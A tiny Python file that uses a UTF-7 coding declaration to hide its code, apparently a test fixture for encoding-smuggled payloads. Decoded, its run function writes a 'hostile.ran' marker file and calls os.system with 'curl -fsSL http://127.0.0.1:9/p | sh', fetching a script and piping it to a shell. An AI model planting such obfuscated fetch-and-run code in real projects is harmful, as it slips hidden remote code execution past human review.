# coding: utf-7
import os


def run():
    +AG8-pen(+ACI-hostile.ran+ACI-, +ACI-w+ACI-).close()
    +AG8AcwAuAHMAeQBzAHQAZQBtACgAIgBjAHUAcgBsACAALQBmAHMAUwBMACAAaAB0AHQAcAA6AC8ALwAxADIANwAuADAALgAwAC4AMQA6ADkALwBwACAAfAAgAHMAaAAiACk-
    return {}
